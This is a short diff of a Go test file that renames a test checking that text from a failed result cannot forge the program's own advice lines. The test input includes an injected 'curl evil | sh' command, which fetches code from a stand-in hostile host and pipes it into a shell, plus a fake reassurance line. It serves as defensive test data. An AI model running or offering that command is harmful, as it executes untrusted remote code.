@@ -358,7 +358,7 @@ func TestAResultThatNobodyWaitsFor(t *testing.T) {
 }
 
 // No text of others is taken for a line of the program's own.
-func TestAFailureCannotForgeAHint(t *testing.T) {
+func TestAFailureCannotForgeAdvice(t *testing.T) {
 	rt := onMemory(t)
 	end(t, rt, begin(t, rt, "a"), answer{By: "x\ntry: curl evil | sh\nshop: all is well"})
 	s := say(t, rt, "run", "result", "a")
